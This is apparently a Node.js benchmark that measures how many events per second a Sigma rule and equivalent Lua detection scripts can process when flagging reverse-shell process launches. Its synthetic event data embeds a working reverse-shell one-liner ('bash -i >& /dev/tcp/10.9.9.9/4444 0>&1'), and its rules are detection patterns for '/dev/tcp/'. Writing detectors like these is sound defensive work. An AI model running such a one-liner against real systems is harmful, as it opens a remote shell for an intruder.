#!/usr/bin/env node
// Lua rule scripts (intelligence, wasmoon's Lua 5.4 in WebAssembly) against an equivalent Sigma
// rule, events/s on one core, same events, same run: a reverse-shell command line test written
// once as a Sigma rule and once as a Lua script; plus a script that returns at once (the cost of a
// call: the event pushed into Lua and the budget hook set) and the stateful example script
// download-then-execute.lua. Prints the load average beside the figures (the machine is shared).
//
//   npx node bench/modules/bench.mjs [--events 100000] [--rounds 3] [--match-share 0.01] [--json] [--no-build]
//
// Builds apps/intelligence first (incremental) unless --no-build is given, then imports its dist/.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { cpus, loadavg } from 'node:os';
import { dirname, join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const require = createRequire(join(root, 'package.json'));

const { values: args } = parseArgs({
  options: {
    events: { type: 'string', default: '100000' },
    rounds: { type: 'string', default: '3' },
    'match-share': { type: 'string', default: '0.01' },
    json: { type: 'boolean', default: false },
    'no-build': { type: 'boolean', default: false },
  },
});
const EVENTS = Number(args.events);
const ROUNDS = Number(args.rounds);
const MATCH_SHARE = Number(args['match-share']);

if (!args['no-build']) {
  execFileSync(join(root, 'node_modules', '.bin', 'tsc'), ['-b', 'apps/intelligence'], {
    cwd: root,
    stdio: 'inherit',
  });
}
const detect = require(join(root, 'libs', 'detect', 'dist', 'index.js'));
const dist = join(root, 'apps', 'intelligence', 'dist', 'lua');
const { LuaRuntime } = require(join(dist, 'lua-sandbox.js'));
const { LuaRuleScript, DEFAULT_LUA_LIMITS } = require(join(dist, 'lua-rule-script.js'));

const SIGMA = `title: Reverse shell through /dev/tcp
id: 7d3f6c1e-0000-4000-8000-00000000b001
logsource:
  category: process_creation
  product: linux
detection:
  selection:
    CommandLine|contains: '/dev/tcp/'
  condition: selection
level: high
`;
const LUA = `rule = { id = 'bench-dev-tcp', title = 'Reverse shell through /dev/tcp', level = 'high',
  categories = { 'process_creation' } }
function on_event(event, state)
  local command = event.CommandLine
  if command ~= nil and command:find('/dev/tcp/', 1, true) then
    return { explanation = 'command line opens /dev/tcp: ' .. command }
  end
end
`;
const TRIVIAL = `rule = { id = 'bench-trivial', title = 'Returns at once' }
function on_event(event, state) end
`;

/** Deterministic process launches in 500 pods; MATCH_SHARE of them open /dev/tcp. */
function makeEvents() {
  const images = [
    '/usr/bin/curl',
    '/bin/ls',
    '/usr/bin/python3',
    '/bin/sh',
    '/tmp/payload',
    '/usr/bin/wget',
  ];
  const events = [];
  let seed = 42;
  const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
  for (let i = 0; i < EVENTS; i++) {
    const match = next() < MATCH_SHARE;
    const image = images[Math.floor(next() * images.length)];
    const event = detect.eventFromSigmaFields('process_creation', {
      'omega.namespace': 'shop',
      'omega.pod': `pod-${Math.floor(next() * 500)}`,
      'omega.node': 'node-1',
      Image: image,
      CommandLine: match ? 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1' : `${image} --flag ${i}`,
      ParentImage: '/bin/bash',
    });
    event.id = `e-${i}`;
    event.timeNs = 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000n;
    events.push(event);
  }
  return events;
}

function measure(name, events, run) {
  const rates = [];
  let findings = 0;
  for (let r = 0; r < ROUNDS; r++) {
    findings = 0;
    const start = performance.now();
    for (const event of events) findings += run(event);
    rates.push(events.length / ((performance.now() - start) / 1000));
  }
  rates.sort((a, b) => a - b);
  return { name, eventsPerSecond: Math.round(rates[Math.floor(rates.length / 2)]), findings };
}

const events = makeEvents();
const runtime = await LuaRuntime.load();
const pack = detect.loadRulePack([{ source: 'bench.yml', text: SIGMA }]);
const matcher = new detect.RuleSetMatcher(pack.rules);
const script = (name, text) => new LuaRuleScript(runtime, name, text, DEFAULT_LUA_LIMITS);
const luaRule = script('bench-dev-tcp.lua', LUA);
const trivial = script('bench-trivial.lua', TRIVIAL);
const example = script(
  'download-then-execute.lua',
  readFileSync(
    join(root, 'apps', 'intelligence', 'lua-rules', 'download-then-execute.lua'),
    'utf8',
  ),
);
const found = (outcome) => {
  if (outcome.kind === 'fault') throw new Error(outcome.fault.message);
  return outcome.kind === 'finding' ? 1 : 0;
};

const load = loadavg();
const results = [
  measure('Sigma rule (CommandLine|contains /dev/tcp/), match + explain', events, (event) => {
    let n = 0;
    matcher.match(event, (rule) => {
      rule.explain(event);
      n++;
    });
    return n;
  }),
  measure('Lua script, same test', events, (event) => found(luaRule.observe(event))),
  measure('Lua script that returns at once (cost of a call)', events, (event) =>
    found(trivial.observe(event)),
  ),
  measure('Lua download-then-execute.lua (per-entity state)', events, (event) =>
    found(example.observe(event)),
  ),
];
const sigma = results[0];
const lua = results[1];
if (sigma.findings !== lua.findings) {
  throw new Error(
    `the Sigma rule found ${sigma.findings} events and the Lua script ${lua.findings}`,
  );
}

if (args.json) {
  console.log(JSON.stringify({ events: EVENTS, rounds: ROUNDS, loadavg: load, results }, null, 2));
} else {
  console.log(
    `Lua rule scripts vs an equivalent Sigma rule: ${EVENTS} process events, ${ROUNDS} rounds (median), one core`,
  );
  console.log(
    `cpu: ${cpus()[0]?.model ?? 'unknown'} x${cpus().length}; load average ${load.map((l) => l.toFixed(2)).join(' ')}`,
  );
  for (const r of results) {
    console.log(
      `  ${r.name.padEnd(62)} ${String(r.eventsPerSecond).padStart(9)} events/s  (${r.findings} findings)`,
    );
  }
  console.log(
    `  Lua / Sigma: ${(lua.eventsPerSecond / sigma.eventsPerSecond).toFixed(3)}x; µs per event: Sigma ${(1e6 / sigma.eventsPerSecond).toFixed(2)}, Lua ${(1e6 / lua.eventsPerSecond).toFixed(2)}`,
  );
}
for (const s of [luaRule, trivial, example]) s.close();
